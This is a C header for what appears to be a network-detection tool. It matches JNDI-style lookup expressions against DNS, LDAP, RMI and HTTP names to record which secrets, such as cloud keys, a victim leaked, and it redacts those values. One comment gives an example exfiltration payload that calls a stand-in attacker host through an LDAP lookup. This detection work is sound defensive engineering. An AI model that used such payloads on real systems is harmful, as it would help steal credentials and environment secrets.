/* SPDX-License-Identifier: GPL-2.0-or-later */
#ifndef CORRELATE_LEAKS_H
#define CORRELATE_LEAKS_H

#include "base/buf.h"

/* What a payload asks of its victim stands in the resolved name as the expression it came from:
 * ldap://evil.example/${env:USER}. Where the name comes back with the value in its place, the value is known,
 * and to whom it was told. */
enum leak_place { LEAK_DNS, LEAK_LDAP, LEAK_RMI, LEAK_GIOP, LEAK_HTTP, LEAK_PLACE_N };

const char *leak_place_name(enum leak_place p); /* "dns", "ldap.dn", "rmi.name", "giop.name", "http.uri" */

struct leak {
    struct leak *next; /* in the order in which they were learned */
    char *variable;    /* "env:AWS_SECRET_ACCESS_KEY"; of several that stand side by side: "env:A+env:B" */
    uint8_t *value;    /* not text for sure */
    size_t value_len;
    enum leak_place place;
    uint64_t ts_us, packet, flow_id; /* where it was seen first */
    char sha256[65];
};

#define LEAKS_MAX      16   /* of one incident */
#define LEAK_VALUE_MAX 1024 /* bytes of a value that are kept */

/* True when pattern has an expression in it. */
bool leak_is_pattern(struct bytes pattern);

/* What stands behind the last expression: the part that a name must end in. Empty when there is none. */
struct bytes leak_tail(struct bytes pattern);

/* Lays seen along pattern: literal parts must be there (case counts unless nocase), expressions take what is
 * between them, the shorter the earlier. True when it fits; what is new is added to the list, at most
 * LEAKS_MAX of it. An expression that comes back unresolved, or as nothing, has leaked nothing. */
struct leak_sight {
    struct bytes pattern, seen;
    bool nocase;
    enum leak_place place;
    uint64_t ts_us, packet, flow_id;
};
bool leaks_learn(struct leak **list, const struct leak_sight *s);

/* Values known from elsewhere that stand in seen, as words of their own: so many letters and digits are there
 * by chance in a longer one. Each is added once more, for this place. Those that stand in pattern are left
 * out: they would be there without the victim. */
void leaks_find(struct leak **list, const struct leak_sight *s);

/* First and last character with the rest left out; nothing of a value so short that they would be most of it.
 */
void leak_redact(const struct leak *l, struct buf *out);

/* Writes stars over all but the first and last character of each value that stands in text, whatever the case
 * of its letters, and also where bytes of it are escaped: %2F of a URL, \2F of a DN (RFC 4514 section 2.4).
 * Values below LEAK_SHORT bytes are left: they would be found everywhere. */
#define LEAK_SHORT 4
void leaks_mask(const struct leak *list, uint8_t *text, size_t len);

size_t leaks_bytes(const struct leak *list); /* memory */
/* What both have is there once, and LEAKS_MAX in all; the rest is freed. */
void leaks_move(struct leak **to, struct leak **from);
void leaks_free(struct leak *list);

#endif
